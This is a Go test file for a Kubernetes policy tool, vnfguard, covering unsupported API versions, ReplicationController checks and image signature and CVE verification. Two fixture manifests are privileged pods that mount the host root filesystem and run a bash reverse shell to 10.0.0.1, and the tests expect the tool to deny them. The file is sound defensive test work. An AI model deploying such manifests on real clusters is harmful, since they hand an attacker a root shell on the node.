package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"

	"github.com/vnfguard/vnfguard/internal/imagesig/cosigntest"
)

// A governed kind in an API version vnfguard does not decode is an error naming the version and where it is,
// never a verdict: on main, the BishopFox CronJob below came back "allowed" with no violation.
func TestPolicyTestUnsupportedVersion(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "badpods.yaml")
	write(t, path, `apiVersion: v1
kind: Pod
metadata: {name: fine}
spec: {containers: [{name: c, image: nginx}]}
---
apiVersion: batch/v1beta1
kind: CronJob
metadata: {name: everything-allowed-revshell-cronjob}
spec:
  schedule: "* * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          hostNetwork: true
          hostPID: true
          containers:
            - name: everything-allowed-pod
              image: ubuntu
              securityContext: {privileged: true}
              command: ["/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/3116 0>&1"]
              volumeMounts: [{mountPath: /host, name: noderoot}]
          volumes: [{name: noderoot, hostPath: {path: /}}]
          restartPolicy: Never
---
apiVersion: extensions/v1beta1
kind: Deployment
metadata: {name: old}
spec:
  template:
    metadata: {labels: {app: old}}
    spec: {containers: [{name: c, image: nginx}]}
`)
	code, out, errOut := runCLI(t, "policy", "test", "-f", path, "-o", "json")
	if code != exitError || out != "" {
		t.Fatalf("exit %d, stdout %q; want exit 2 and no verdict", code, out)
	}
	for _, want := range []string{
		"badpods.yaml:6 (document 2): CronJob batch/v1beta1: API version not judged by vnfguard: vnfguard judges CronJob only as batch/v1 (Kubernetes stopped serving batch/v1beta1 in 1.25)",
		"badpods.yaml:26 (document 3): Deployment extensions/v1beta1",
	} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
}

// ReplicationControllers are judged like ReplicaSets by policy test.
func TestPolicyTestReplicationController(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "rc.yaml")
	write(t, path, `apiVersion: v1
kind: ReplicationController
metadata: {name: peirates}
spec:
  replicas: 1
  selector: {app: p}
  template:
    metadata: {labels: {app: p}}
    spec:
      hostPID: true
      containers:
        - {name: c, image: ubuntu, securityContext: {privileged: true}, command: ["/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}
`)
	code, out, errOut := runCLI(t, "policy", "test", "-f", path, "-o", "json")
	var results []policyResult
	if err := json.Unmarshal([]byte(out), &results); err != nil || code != exitFindings || len(results) != 1 {
		t.Fatalf("exit %d, %v: %s %s", code, err, out, errOut)
	}
	checks := map[string]bool{}
	for _, v := range results[0].Violations {
		checks[v.Check] = true
	}
	if results[0].Verdict != "denied" || !checks["host-takeover"] || !checks["reverse-shell"] {
		t.Fatalf("verdict %s, violations %+v; want host-takeover and reverse-shell", results[0].Verdict, results[0].Violations)
	}
}

// policy test checks image signatures and vulnerability reports as serve does; --offline makes no registry
// request and says, in each verdict it affects, which check it did not make. On main, the Deployment with the
// CRITICAL CVE came back allowed.
func TestPolicyTestImageIntegrity(t *testing.T) {
	reg := cosigntest.StartRegistry()
	defer reg.Close()
	key, err := cosigntest.NewKey()
	if err != nil {
		t.Fatal(err)
	}
	push := func(repo string) name.Digest {
		d, err := reg.Push(repo, "1.0")
		if err != nil {
			t.Fatal(err)
		}
		if err := reg.Sign(key, d); err != nil {
			t.Fatal(err)
		}
		return d
	}
	clean, vulnerable := push("5gc/upf"), push("5gc/upf-xz")
	dir := t.TempDir()
	write(t, filepath.Join(dir, "acme.pub"), string(key.PublicPEM))
	write(t, filepath.Join(dir, "reports", "clean.json"), trivyReport(clean, ""))
	write(t, filepath.Join(dir, "reports", "xz.json"), trivyReport(vulnerable, `{"VulnerabilityID": "CVE-2024-3094", "PkgName": "xz-utils",
		"InstalledVersion": "5.6.0-0.2", "FixedVersion": "5.6.1+really5.4.5-1", "Severity": "CRITICAL", "Title": "xz: malicious code in distributed source"}`))
	write(t, filepath.Join(dir, "inventory.yaml"), `apiVersion: vnfguard.io/v1alpha1
kind: Inventory
vnfPackages:
  - vnfdId: upf-vnfd
    vnfProvider: Acme
    vnfProductName: UPF
    images:
      - {name: upf, image: "`+clean.String()+`"}
      - {name: upf-xz, image: "`+vulnerable.String()+`"}
      - {name: upf-tag, image: "`+reg.Host+`/5gc/upf:1.0"}
vnfInstances:
  - {id: upf-1, vnfdId: upf-vnfd, vnfProvider: Acme, vnfProductName: UPF, instantiationState: INSTANTIATED,
     instantiatedVnfInfo: {flavourId: simple, vnfState: STARTED, metadata: {namespace: vnf-upf}}}
`)
	configPath := filepath.Join(dir, "vnfguard.yaml")
	write(t, configPath, `apiVersion: vnfguard.io/v1alpha1
kind: Config
protectedNamespaces: {names: [vnf-upf]}
identities:
  vnfm: {users: [tacker-vnfm]}
registries:
  allowed: ["`+reg.Host+`/"]
inventory: {file: inventory.yaml}
images:
  signatures:
    providers:
      - {provider: Acme, publicKeys: [acme.pub]}
  vulnerabilities:
    reports: [reports]
  registry:
    timeout: 3s
    insecure: ["`+reg.Host+`"]
`)
	deployment := func(name, image string) string {
		return `apiVersion: apps/v1
kind: Deployment
metadata: {name: ` + name + `, namespace: vnf-upf, labels: {tacker_vnf_instance_id: upf-1}}
spec:
  selector: {matchLabels: {app: ` + name + `}}
  template:
    metadata: {labels: {app: ` + name + `}}
    spec:
      securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
      containers:
        - name: upf
          image: "` + image + `"
          securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: {drop: [ALL]}}
`
	}
	manifests := filepath.Join(dir, "upf.yaml")
	write(t, manifests, deployment("upf", clean.String())+"---\n"+deployment("upf-xz", vulnerable.String())+"---\n"+deployment("upf-tag", reg.Host+"/5gc/upf:1.0"))

	judge := func(args ...string) map[string]policyResult {
		t.Helper()
		code, out, errOut := runCLI(t, append([]string{"policy", "test", "-f", manifests, "--config", configPath, "--as", "tacker-vnfm", "-o", "json"}, args...)...)
		var results []policyResult
		if err := json.Unmarshal([]byte(out), &results); err != nil || code != exitFindings {
			t.Fatalf("%v: exit %d (want 1: the CVE is denied), %v: %s %s", args, code, err, out, errOut)
		}
		byName := map[string]policyResult{}
		for _, r := range results {
			byName[r.Object.Name] = r
		}
		return byName
	}
	violation := func(r policyResult, check, text string) bool {
		for _, v := range r.Violations {
			if v.Check == check && strings.Contains(v.Message, text) {
				return true
			}
		}
		return false
	}
	note := func(r policyResult, text string) bool {
		for _, e := range r.Exceptions {
			if strings.Contains(e, text) {
				return true
			}
		}
		return false
	}

	online := judge()
	if r := online["upf"]; r.Verdict != "allowed" || len(r.Exceptions) != 0 {
		t.Errorf("signed, clean image: %+v", r)
	}
	if r := online["upf-xz"]; r.Verdict != "denied" || !violation(r, "image-vulnerabilities", "CVE-2024-3094") {
		t.Errorf("image with a CRITICAL CVE: %+v, want denied by image-vulnerabilities naming CVE-2024-3094", r)
	}
	if r := online["upf-tag"]; violation(r, "image-signature", "") || violation(r, "image-vulnerabilities", "") || len(r.Exceptions) != 0 {
		t.Errorf("signed, clean image by tag (resolved through the registry; image-provenance denies the tag): %+v", r)
	}

	// Offline: no registry at all; the report files still judge images given by digest.
	reg.Close()
	offline := judge("--offline")
	for _, n := range []string{"upf", "upf-xz", "upf-tag"} {
		if r := offline[n]; !note(r, "image-signature not checked: --offline") {
			t.Errorf("%s: no note that the signature was not checked: %+v", n, r)
		}
		for _, v := range offline[n].Violations {
			if strings.Contains(v.Message, "unreachable") || strings.Contains(v.Message, "connection refused") {
				t.Errorf("%s: --offline made a registry request: %+v", n, v)
			}
		}
	}
	if r := offline["upf"]; r.Verdict != "allowed" || note(r, "image-vulnerabilities not checked") {
		t.Errorf("clean image by digest offline: %+v", r)
	}
	if r := offline["upf-xz"]; r.Verdict != "denied" || !violation(r, "image-vulnerabilities", "CVE-2024-3094") {
		t.Errorf("CRITICAL CVE by digest offline: %+v, want denied from the report file", r)
	}
	if r := offline["upf-tag"]; !note(r, "image-vulnerabilities not checked: --offline (the image is given by tag") {
		t.Errorf("image by tag offline: %+v, want image-vulnerabilities noted as not checked", r)
	}

	// The table carries the notes too.
	_, table, _ := runCLI(t, "policy", "test", "-f", manifests, "--config", configPath, "--as", "tacker-vnfm", "--offline")
	if !strings.Contains(table, "image-signature not checked: --offline") {
		t.Errorf("table output lacks the offline note:\n%s", table)
	}
}

func write(t *testing.T, path, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), 0o600); err != nil {
		t.Fatal(err)
	}
}

func trivyReport(d name.Digest, vulns string) string {
	return `{"SchemaVersion": 2, "CreatedAt": "` + time.Now().UTC().Format(time.RFC3339Nano) + `", "ArtifactName": "` + d.String() + `",
  "ArtifactType": "container_image", "Metadata": {"RepoTags": [], "RepoDigests": ["` + d.String() + `"]},
  "Results": [{"Target": "` + d.String() + ` (debian 12.8)", "Class": "os-pkgs", "Type": "debian", "Vulnerabilities": [` + vulns + `]}]}`
}
